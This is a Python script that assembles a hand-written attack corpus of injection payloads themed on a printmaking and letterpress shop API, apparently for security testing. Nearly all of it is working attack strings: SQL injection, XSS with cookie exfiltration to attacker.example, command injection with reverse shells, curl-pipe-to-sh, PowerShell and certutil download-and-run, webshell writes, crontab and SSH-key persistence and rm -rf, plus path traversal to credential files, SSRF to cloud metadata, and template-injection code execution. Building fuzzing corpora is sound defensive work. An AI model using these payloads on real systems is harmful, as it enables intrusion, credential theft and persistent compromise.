#!/usr/bin/env python3
"""Attack corpus for the printmaking studio / letterpress shop API. Stdlib only.

Every literal below was written by hand for this theme. The only computed values are
(a) hand-written theme prefixes joined to hand-written payloads and (b) one encoding
applied to a hand-written payload (see TEMPLATED at the bottom)."""
import base64
import json
import os
import random
import urllib.parse

SEED = 18602
PREFIX = "hafu"
rng = random.Random(SEED)

A = []


def add(cat, cls, *vals):
    for v in vals:
        A.append((cat, cls, v))


# ---------------------------------------------------------------- sqli
add("sqli", "edition-string-or-true", "12/50' OR '1'='1")
add("sqli", "edition-string-or-true-comment", "AP I/V' OR 1=1-- -")
add("sqli", "plain-boolean", "' or 1=1#")
add("sqli", "plain-boolean", "admin'--")
add("sqli", "paper-union-select", "Arches 300gsm' UNION SELECT username,password,NULL FROM users-- ")
add("sqli", "pantone-union-select-mysql", "Pantone 186 C' UNION ALL SELECT table_name,column_name FROM information_schema.columns#")
add("sqli", "typecase-union-select-pg", "Caslon 12pt' UNION SELECT current_user,version(),NULL::text--")
add("sqli", "search-union-sqlite", "linocut%' UNION SELECT name,sql,1 FROM sqlite_master--")
add("sqli", "job-union-oracle", "2024-118' UNION SELECT username,password FROM all_users WHERE ROWNUM=1--")
add("sqli", "job-union-mssql", "118' UNION SELECT name,password_hash FROM sys.sql_logins--")
add("sqli", "number-or-true", "50 OR 1=1")
add("sqli", "number-or-true", "12 or 2>1")
add("sqli", "number-sleep-mysql", "12 AND SLEEP(5)")
add("sqli", "edition-sleep-mysql-if", "12/50' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)-- -")
add("sqli", "booking-benchmark-mysql", "4471' AND BENCHMARK(50000000,MD5('ink'))#")
add("sqli", "number-waitfor-mssql", "7;WAITFOR DELAY '0:0:5'--")
add("sqli", "shipping-waitfor-mssql", "1Z999AA10123456784'; IF (SELECT COUNT(*) FROM users)>0 WAITFOR DELAY '0:0:5'--")
add("sqli", "paper-pg-sleep-stacked", "Somerset 250gsm'; SELECT pg_sleep(5)--")
add("sqli", "paper-pg-sleep-concat", "Rives BFK'||(SELECT pg_sleep(5))||'")
add("sqli", "ink-oracle-pipe", "PMS 7406 C' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)--")
add("sqli", "sqlite-randomblob", "kraft 300gsm' AND 1=LIKE('ABC',UPPER(HEX(RANDOMBLOB(300000000/2))))--")
add("sqli", "edition-error-extractvalue", "12/50' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password FROM users LIMIT 1)))-- -")
add("sqli", "edition-error-updatexml", "20/20' AND UPDATEXML(1,CONCAT(0x3a,user()),1)#")
add("sqli", "job-error-convert-mssql", "INV-2024-0331' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--")
add("sqli", "number-error-cast-pg", "1 AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)")
add("sqli", "inventory-stacked-drop", "Tarlatan 5m'; DROP TABLE inventory;--")
add("sqli", "edition-stacked-update", "7/25'; UPDATE users SET role='admin' WHERE email='owner@attacker.example';--")
add("sqli", "booking-stacked-insert", "Vandercook'); INSERT INTO members(email,is_admin) VALUES('x@attacker.example',1);--")
add("sqli", "mssql-xp-cmdshell", "118'; EXEC master..xp_cmdshell 'ping 203.0.113.9';--")
add("sqli", "mssql-oob-dirtree", "HC 3/10'; EXEC master..xp_dirtree '\\\\a.attacker.example\\x';--")
add("sqli", "mysql-load-file", "Caslon' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -")
add("sqli", "mysql-into-outfile", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -")
add("sqli", "oracle-oob-utl-http", "Bodoni' AND 1=(SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual)--")
add("sqli", "pg-copy-program", "1'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--")
add("sqli", "order-by-case", "edition_no,(CASE WHEN (SELECT SUBSTR(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)")
add("sqli", "order-by-column-probe", "created_at ASC, (SELECT 1 FROM (SELECT SLEEP(5))x)")
add("sqli", "sort-param-if", "IF(1=1,title,price)")
add("sqli", "limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)")
add("sqli", "comment-as-space", "'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/members--")
add("sqli", "mysql-versioned-comment", "12/50'/*!50000UNION*//*!50000SELECT*/1,group_concat(email),3 FROM members-- -")
add("sqli", "case-mixing", "Pantone 032 C' uNiOn SeLeCt NuLl,UsEr(),nULL-- -")
add("sqli", "no-space-parens", "'or(1)=(1)#")
add("sqli", "hex-string-compare", "x' OR title=0x48617262 OR '1'='2")
add("sqli", "char-concat-mssql", "x' OR name=CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)--")
add("sqli", "boolean-substring", "12/50' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='$'-- -")
add("sqli", "boolean-ascii-blind", "Lettra 600gsm' AND ASCII(SUBSTR((SELECT user()),1,1))>100-- -")
add("sqli", "boolean-exists", "' AND EXISTS(SELECT * FROM members WHERE is_admin=1)--")
add("sqli", "like-wildcard-or", "%' OR 'a' LIKE 'a")
add("sqli", "double-quote-string", "Garamond\" OR \"\"=\"")
add("sqli", "backslash-escape-break", "Baskerville\\' OR 1=1-- -")
add("sqli", "urlencoded-or", "12%2F50%27%20OR%20%271%27%3D%271")
add("sqli", "double-urlencoded-union", "%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--")
add("sqli", "unicode-quote-normalized", "Gampi ＇ OR 1=1-- ")
add("sqli", "json-field-sqli", "{\"paper\":\"Arches' OR '1'='1\",\"qty\":25}")
add("sqli", "csv-import-sqli", "PAP-ARC88-300,25,B3'); DELETE FROM editions;--")
add("sqli", "having-group-by-probe", "1' GROUP BY id HAVING 1=1--")
add("sqli", "mssql-declare-exec", "1;DECLARE @q VARCHAR(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q)--")
add("sqli", "pg-dollar-quote", "1; SELECT $$x$$ FROM pg_sleep(5)--")
add("sqli", "sqlite-attach", "x'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(d text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--")
add("sqli", "in-clause-break", "3,4) OR 1=1 OR id IN (5")
add("sqli", "like-escape-or", "gold foil%' OR 1=1 OR title LIKE '%")
add("sqli", "insert-subquery", "Café Olé', (SELECT password FROM users LIMIT 1))-- ")
add("sqli", "mysql-hash-comment-newline", "Fabriano'#\nOR 1=1#")
add("sqli", "oracle-ctxsys", "x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))--")
add("sqli", "mssql-openrowset", "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.20;uid=sa;pwd=x','SELECT 1')--")
add("sqli", "mysql-gtid-error", "12/50' AND GTID_SUBSET(CONCAT(0x7e,(SELECT schema_name FROM information_schema.schemata LIMIT 1)),1)-- -")
add("sqli", "between-bypass", "1 AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 97 AND 122")
add("sqli", "scientific-notation-bypass", "1e0UNION SELECT password,1 FROM users")
add("sqli", "pg-chr-bypass", "x' OR username=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--")
add("sqli", "note-union-select", "Notes for printer: watch the 'e' filling in' UNION SELECT api_key,2,3 FROM api_tokens-- ")
add("sqli", "floor-rand-error-mysql", "PMS 877 C' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -")
add("sqli", "mssql-union-varchar-concat", "x' UNION SELECT NULL,name+':'+password_hash FROM sys.sql_logins--")

# ---------------------------------------------------------------- xss
add("xss", "plain-script", "<script>alert(document.domain)</script>")
add("xss", "statement-script-exfil", "My work explores erosion.<script>fetch('https://attacker.example/c?'+document.cookie)</script>")
add("xss", "img-onerror", "Harbour at Dusk <img src=x onerror=alert(1)>")
add("xss", "img-onerror-exfil", "12/50 <img src=/nope onerror=\"new Image().src='//attacker.example/?c='+document.cookie\">")
add("xss", "svg-onload", "<svg/onload=alert(1)>")
add("xss", "svg-onload-theme", "Pantone 186 C swatch: <svg onload=\"alert(document.cookie)\" width=10>")
add("xss", "body-onload", "<body onload=alert('ink')>")
add("xss", "attr-breakout-double", "Caslon\" autofocus onfocus=\"alert(1)\" x=\"")
add("xss", "attr-breakout-single", "O'Neill' onmouseover='alert(document.domain)' '")
add("xss", "attr-breakout-tag", "Arches\"><script>alert(1)</script>")
add("xss", "textarea-breakout", "</textarea><script>alert(1)</script>")
add("xss", "title-breakout", "</title><svg onload=alert(1)>")
add("xss", "style-breakout", "</style><img src=x onerror=alert(1)>")
add("xss", "script-string-breakout", "';alert(document.domain);//")
add("xss", "script-string-breakout-dq", "\";alert(String.fromCharCode(88,83,83));//")
add("xss", "script-close-breakout", "</script><script>alert(1)</script>")
add("xss", "template-literal-breakout", "${alert(document.cookie)}`;//")
add("xss", "javascript-url", "javascript:alert(document.cookie)")
add("xss", "portfolio-javascript-url-case", "JaVaScRiPt:alert(1)//https://lena-mayer.example/prints")
add("xss", "javascript-url-tab", "java\tscript:alert(1)")
add("xss", "javascript-url-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)")
add("xss", "javascript-url-hex-entities", "<a href=\"&#x6A;avascript&#x3A;alert(1)\">portfolio</a>")
add("xss", "markdown-link-javascript", "See my prints [here](javascript:alert(document.domain))")
add("xss", "markdown-image-onerror", "![12/50](x\" onerror=\"alert(1))")
add("xss", "iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>")
add("xss", "iframe-javascript", "<iframe src=\"javascript:alert(1)\"></iframe>")
add("xss", "details-ontoggle", "<details open ontoggle=alert(1)><summary>Edition notes</summary></details>")
add("xss", "input-autofocus", "<input autofocus onfocus=alert(1)>")
add("xss", "video-source-onerror", "<video><source onerror=\"alert(1)\"></video>")
add("xss", "audio-onerror", "<audio src=x onerror=alert(1)>")
add("xss", "object-data-javascript", "<object data=\"javascript:alert(1)\"></object>")
add("xss", "embed-data-uri", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">")
add("xss", "form-action-javascript", "<form action=\"javascript:alert(1)\"><button>Book press</button></form>")
add("xss", "button-formaction", "<form><button formaction=javascript:alert(1)>Sign up</button></form>")
add("xss", "marquee-onstart", "<marquee onstart=alert(1)>SALE 20% off Arches</marquee>")
add("xss", "meta-refresh-javascript", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">")
add("xss", "base-href-hijack", "<base href=\"https://attacker.example/\">")
add("xss", "style-import-exfil", "<style>@import 'https://attacker.example/steal.css';</style>")
add("xss", "link-stylesheet", "<link rel=stylesheet href=//attacker.example/x.css>")
add("xss", "script-src-remote", "Artist bio <script src=//attacker.example/x.js></script>")
add("xss", "unicode-escape-in-script", "<script>\\u0061lert(1)</script>")
add("xss", "js-hex-escape-eval", "<img src=x onerror=\"eval('\\x61lert(1)')\">")
add("xss", "entity-in-event-handler", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">")
add("xss", "urlencoded-script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
add("xss", "double-urlencoded-img", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E")
add("xss", "fullwidth-normalized", "＜script＞alert(1)＜/script＞")
add("xss", "svg-script-entity", "<svg><script>alert&#40;1&#41;</script></svg>")
add("xss", "nested-tag-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>")
add("xss", "svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>12/50</text></a></svg>")
add("xss", "svg-image-onerror", "<svg><image href=x onerror=alert(1) /></svg>")
add("xss", "math-href", "<math><mtext><a href=\"javascript:alert(1)\">click</a></mtext></math>")
add("xss", "noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")
add("xss", "table-cell-onmouseover", "<table><tr><td onmouseover=alert(1)>Edition | Paper</td></tr></table>")
add("xss", "eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>")
add("xss", "settimeout-string", "<svg onload=setTimeout('al'+'ert(1)')>")
add("xss", "constructor-constructor", "<img src=x onerror=[].constructor.constructor('alert(1)')()>")
add("xss", "angular-csti", "{{constructor.constructor('alert(1)')()}}")
add("xss", "vue-template-injection", "Job note: {{_c.constructor('alert(1)')()}}")
add("xss", "pointer-event", "<div onpointerover=\"alert(1)\" style=\"position:fixed;inset:0\">Vandercook</div>")
add("xss", "oncopy-handler", "<p oncopy=alert(1)>copy this Pantone code: 186 C</p>")
add("xss", "body-onpageshow", "<body onpageshow=alert(1)>")
add("xss", "contenteditable-onblur", "<div contenteditable onblur=alert(1) autofocus>edit me</div>")
add("xss", "select-onchange", "<select onchange=alert(1)><option>300gsm<option>250gsm</select>")
add("xss", "image-srcset-onerror", "<img srcset=\",,,,,x\" onerror=alert(1)>")
add("xss", "xlink-href", "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:alert(1)\"><rect width=\"100\" height=\"50\"/></a></svg>")
add("xss", "chat-img-onerror-slash", "lol nice print <img/src/onerror=alert(1)>")
add("xss", "keyframes-onanimation", "<style>@keyframes k{}</style><i style=\"animation-name:k\" onanimationstart=\"alert(1)\"></i>")
add("xss", "dom-clobber-form", "<form id=config><input name=apiBase value=\"https://attacker.example\"></form>")
add("xss", "link-javascript-exfil", "<a href=\"javascript:fetch('//attacker.example/?'+localStorage.token)\">proof PDF</a>")
add("xss", "javascript-url-padded-entity", "<a href=\"&#0000106avascript:alert(1)\">legacy</a>")
add("xss", "html-comment-breakout", "--><script>alert(1)</script><!--")
add("xss", "cdata-breakout", "]]><script>alert(1)</script>")
add("xss", "json-in-script-breakout", "</script><img src=x onerror=alert(1)>")

# ---------------------------------------------------------------- cmdi
add("cmdi", "plain-semicolon", "; id")
add("cmdi", "filename-semicolon", "proof_12-50.pdf; cat /etc/passwd")
add("cmdi", "filename-pipe", "harbour.tif | nc 203.0.113.5 4444 -e /bin/sh")
add("cmdi", "filename-and", "coaster_final_v3.pdf && curl -s http://attacker.example/s.sh | sh")
add("cmdi", "filename-or", "missing.pdf || wget -qO- http://198.51.100.7/x | bash")
add("cmdi", "backtick-subst", "invite_`id`.pdf")
add("cmdi", "dollar-paren-subst", "scan_$(whoami).tif")
add("cmdi", "dollar-paren-exfil", "Arches $(curl -d @/etc/passwd http://attacker.example/)")
add("cmdi", "newline-separator", "poster.png\nid")
add("cmdi", "urlencoded-newline", "poster.png%0Aid%0A")
add("cmdi", "ifs-no-space", "x;cat${IFS}/etc/passwd")
add("cmdi", "ifs-brace-expansion", ";{cat,/etc/shadow}")
add("cmdi", "quote-splitting", "x;c'a't /e\"t\"c/pa''sswd")
add("cmdi", "backslash-splitting", "x;w\\h\\o\\a\\m\\i")
add("cmdi", "wildcard-path", "x;/???/c?t /???/p?ss??")
add("cmdi", "hex-printf", "x;$(printf '\\x69\\x64')")
add("cmdi", "base64-pipe-sh", "x; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh")
add("cmdi", "reverse-shell-bash", "12-50.pdf; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
add("cmdi", "reverse-shell-python", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'")
add("cmdi", "mkfifo-nc", "x; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.3 9001 >/tmp/f")
add("cmdi", "sleep-blind", "proof.pdf; sleep 10 #")
add("cmdi", "ping-blind", "Vandercook & ping -c 10 127.0.0.1 &")
add("cmdi", "dns-exfil-nslookup", "x;nslookup $(whoami).attacker.example")
add("cmdi", "redirect-write-webshell", "x; echo '<?php system($_GET[c]);?>' > /var/www/html/ink.php")
add("cmdi", "crontab-persist", "x; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -")
add("cmdi", "ssh-key-persist", "x; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKE attacker >> ~/.ssh/authorized_keys")
add("cmdi", "lp-printer-name", "press1; cat /etc/passwd | lp -d press1")
add("cmdi", "lp-option-injection", "-o 'media=A4' ; id")
add("cmdi", "windows-ampersand", "proof.pdf & type C:\\Windows\\win.ini")
add("cmdi", "windows-pipe", "job118.ai | whoami /all")
add("cmdi", "windows-double-ampersand", "invite.pdf && net user printadmin P@ss-FAKE-123 /add")
add("cmdi", "windows-certutil", "x & certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe")
add("cmdi", "windows-caret-obfuscation", "x & w^h^o^a^m^i")
add("cmdi", "windows-env-substring", "x & %COMSPEC:~-7,3% /c dir")
add("cmdi", "powershell-iex", "x; powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"")
add("cmdi", "powershell-encoded", "x & powershell -enc dwBoAG8AYQBtAGkA")
add("cmdi", "powershell-subexpression", "$(Get-Content C:\\inetpub\\wwwroot\\web.config)")
add("cmdi", "powershell-invoke-webrequest", "scan.tif; iwr -Uri http://203.0.113.8/x -Method POST -Body (gc $env:USERPROFILE\\.aws\\credentials)")
add("cmdi", "argv-curl-output", "-o /var/www/html/shell.php http://attacker.example/shell.txt")
add("cmdi", "argv-curl-form-file", "-F file=@/etc/passwd http://attacker.example/up")
add("cmdi", "argv-wget-post-file", "--post-file=/etc/passwd http://attacker.example/")
add("cmdi", "argv-wget-execute", "-e use_proxy=yes -e http_proxy=203.0.113.4:3128 http://internal.print.local/")
add("cmdi", "argv-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/ink.sh")
add("cmdi", "argv-find-exec", "-exec sh -c 'id > /tmp/o' ;")
add("cmdi", "argv-git-upload-pack", "--upload-pack=touch /tmp/pwned")
add("cmdi", "argv-git-ssh-command", "-c core.sshCommand='sh -c id' fetch origin")
add("cmdi", "argv-rsync-e", "-e 'sh -c \"id>&2\"' x:/y /tmp/z")
add("cmdi", "argv-zip-tt", "-T -TT 'sh -c id #'")
add("cmdi", "argv-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example|sh' x")
add("cmdi", "argv-imagemagick-write", "proof.png -write /var/www/html/s.php")
add("cmdi", "imagemagick-pipe-filename", "|curl -s http://attacker.example/x|sh;.png")
add("cmdi", "ghostscript-outputfile", "-sOutputFile=%pipe%id -sDEVICE=pdfwrite")
add("cmdi", "argv-sendmail-x", "studio@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp")
add("cmdi", "argv-pdftk-dash", "--help; id")
add("cmdi", "perl-open-trailing-pipe", "id|")
add("cmdi", "process-substitution", "x;cat <(id)")
add("cmdi", "heredoc", "x;sh<<<id")
add("cmdi", "env-var-path", "x;$SHELL -c id")
add("cmdi", "brace-expansion-spaceless", "x;{wget,-qO-,attacker.example/s}|sh")
add("cmdi", "tab-separator", "x;cat\t/etc/passwd")
add("cmdi", "ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd")
add("cmdi", "job-note-semicolon", "Trim to 5×7 in; rm -rf /srv/jobs/*")
add("cmdi", "export-backtick-exfil", "harbour_`curl attacker.example/$(hostname)`.csv")
add("cmdi", "export-filename-subst", "edition_$(id -u)_12-50.csv")

# ---------------------------------------------------------------- traversal
add("traversal", "plain-dotdot", "../../../../etc/passwd")
add("traversal", "artwork-path-dotdot", "jobs/2024/118/../../../../../etc/shadow")
add("traversal", "scan-path-dotdot", "editions/2024/harbour_12-50.tif/../../../../proc/self/environ")
add("traversal", "windows-backslash", "..\\..\\..\\..\\Windows\\win.ini")
add("traversal", "windows-unc-style", "\\\\studio-nas\\jobs\\..\\..\\..\\Windows\\System32\\config\\SAM")
add("traversal", "windows-mixed-slashes", "..\\../..\\../inetpub/wwwroot/web.config")
add("traversal", "absolute-path", "/etc/passwd")
add("traversal", "absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts")
add("traversal", "urlencoded-slash", "..%2F..%2F..%2F..%2Fetc%2Fpasswd")
add("traversal", "urlencoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd")
add("traversal", "urlencoded-all", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts")
add("traversal", "double-urlencoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd")
add("traversal", "overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/passwd")
add("traversal", "overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")
add("traversal", "overlong-3byte", "..%e0%80%af..%e0%80%afetc/passwd")
add("traversal", "iis-u-encoding", "..%u2216..%u2216..%u2216windows%u2216win.ini")
add("traversal", "iis-u-dot", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd")
add("traversal", "fullwidth-normalized", "．．／．．／．．／etc／passwd")
add("traversal", "backslash-urlencoded", "..%5c..%5c..%5cwindows%5cwin.ini")
add("traversal", "nested-strip-bypass", "....//....//....//etc/passwd")
add("traversal", "nested-strip-dot-slash", "..././..././..././etc/passwd")
add("traversal", "null-byte-extension", "../../../../etc/passwd%00.tif")
add("traversal", "null-byte-raw", "../../../etc/passwd\u0000.pdf")
add("traversal", "dot-slash-padding", "./././../../././../etc/./passwd")
add("traversal", "semicolon-path-param", "/static/..;/..;/WEB-INF/web.xml")
add("traversal", "java-web-inf", "../../WEB-INF/classes/application.properties")
add("traversal", "app-config-env", "../../../.env")
add("traversal", "git-config", "../../.git/config")
add("traversal", "aws-credentials", "../../../../root/.aws/credentials")
add("traversal", "ssh-private-key", "../../../home/printshop/.ssh/id_rsa")
add("traversal", "proc-self-cwd", "/proc/self/cwd/config/database.yml")
add("traversal", "proc-self-fd", "../../../../proc/self/fd/3")
add("traversal", "zip-slip-entry", "../../../../var/www/html/uploads/shell.php")
add("traversal", "zip-slip-windows", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx")
add("traversal", "template-name-traversal", "invoice/../../../../etc/passwd")
add("traversal", "export-filename", "edition_12-50/../../../../var/log/nginx/access.log")
add("traversal", "absolute-prefix-dotdot", "/var/www/html/../../../etc/passwd")
add("traversal", "php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php")
add("traversal", "unicode-escape-json", "\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd")
add("traversal", "trailing-dot-windows", "..\\..\\..\\Windows\\win.ini.")
add("traversal", "double-encoded-backslash", "..%255c..%255c..%255cboot.ini")
add("traversal", "font-file-traversal", "fonts/caslon/../../../../../etc/hostname")
add("traversal", "kubernetes-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token")
add("traversal", "docker-env-proc", "/proc/1/environ")

# ---------------------------------------------------------------- ssrf
add("ssrf", "plain-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
add("ssrf", "portfolio-aws-metadata", "http://169.254.169.254/latest/user-data")
add("ssrf", "aws-imdsv2-token", "http://169.254.169.254/latest/api/token")
add("ssrf", "gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")
add("ssrf", "azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01")
add("ssrf", "alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/")
add("ssrf", "ecs-task-credentials", "http://169.254.170.2/v2/credentials/")
add("ssrf", "aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/")
add("ssrf", "oracle-metadata", "http://192.0.0.192/latest/meta-data/")
add("ssrf", "loopback-admin", "http://127.0.0.1:8080/admin/")
add("ssrf", "localhost-name", "http://localhost/server-status")
add("ssrf", "decimal-ip", "http://2130706433/")
add("ssrf", "hex-ip", "http://0x7f000001/admin")
add("ssrf", "octal-ip", "http://0177.0.0.1/")
add("ssrf", "short-ip", "http://127.1:6379/")
add("ssrf", "zero-ip", "http://0/")
add("ssrf", "decimal-metadata", "http://2852039166/latest/meta-data/")
add("ssrf", "hex-dotted-metadata", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/")
add("ssrf", "ipv6-loopback", "http://[::1]:9200/_cat/indices")
add("ssrf", "ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/")
add("ssrf", "ipv4-mapped-ipv6-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/")
add("ssrf", "userinfo-confusion", "https://lena-mayer.example@127.0.0.1/admin")
add("ssrf", "userinfo-hash-confusion", "http://attacker.example#@169.254.169.254/latest/meta-data/")
add("ssrf", "backslash-parser-confusion", "http://attacker.example\\@127.0.0.1:8080/")
add("ssrf", "dns-rebinding-subdomain", "http://127.0.0.1.attacker.example/internal")
add("ssrf", "redirect-via-attacker", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/")
add("ssrf", "rfc1918-10", "http://10.0.0.5:8080/actuator/env")
add("ssrf", "rfc1918-192", "http://192.168.1.1/cgi-bin/luci")
add("ssrf", "rfc1918-172", "http://172.16.0.10:2375/containers/json")
add("ssrf", "internal-service-name", "http://inventory-db.internal:5984/_all_dbs")
add("ssrf", "kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets")
add("ssrf", "consul-api", "http://consul.service.consul:8500/v1/kv/?recurse")
add("ssrf", "gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A")
add("ssrf", "gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A")
add("ssrf", "dict-memcached", "dict://127.0.0.1:11211/stats")
add("ssrf", "file-scheme", "file:///etc/passwd")
add("ssrf", "file-scheme-windows", "file:///C:/Windows/win.ini")
add("ssrf", "ldap-scheme", "ldap://127.0.0.1:389/dc=print,dc=local")
add("ssrf", "jar-scheme", "jar:http://attacker.example/x.jar!/")
add("ssrf", "netdoc-scheme", "netdoc:///etc/passwd")
add("ssrf", "tftp-scheme", "tftp://198.51.100.9/x")
add("ssrf", "enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/")
add("ssrf", "mixed-case-scheme-localhost", "HtTp://LoCaLhOsT:8000/debug")
add("ssrf", "url-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/")

# ---------------------------------------------------------------- code
add("code", "jinja2-config", "{{config.items()}}")
add("code", "jinja2-subclasses", "Dear {{ ''.__class__.__mro__[1].__subclasses__() }}")
add("code", "jinja2-cycler-popen", "Edition note {{ cycler.__init__.__globals__.os.popen('id').read() }}")
add("code", "jinja2-lipsum-popen", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}")
add("code", "jinja2-request-attr-bypass", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}")
add("code", "jinja2-statement-block", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}")
add("code", "twig-filter-system", "{{['id']|filter('system')}}")
add("code", "twig-map-passthru", "Invoice for {{['cat /etc/passwd']|map('passthru')|join}}")
add("code", "twig-self-env", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}")
add("code", "freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")
add("code", "freemarker-objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}")
add("code", "velocity-runtime", "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime())#set($p=$r.exec('id'))$p.waitFor()")
add("code", "velocity-string-class", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime'))$rt.getMethod('getRuntime',null).invoke(null,null).exec('touch /tmp/v')")
add("code", "erb-backtick", "Thanks for your order <%= `id` %>")
add("code", "erb-system", "<%= system('cat /etc/passwd') %>")
add("code", "erb-file-read", "<%= File.read('/etc/passwd') %>")
add("code", "smarty-system", "{system('id')}")
add("code", "smarty-php-tag", "{php}echo shell_exec('id');{/php}")
add("code", "smarty-static-call", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}")
add("code", "mako-import", "${__import__('os').popen('id').read()}")
add("code", "mako-block", "<% import os; x=os.popen('id').read() %>${x}")
add("code", "tornado-import", "{% import os %}{{ os.popen('id').read() }}")
add("code", "django-settings-leak", "{{ settings.SECRET_KEY }}")
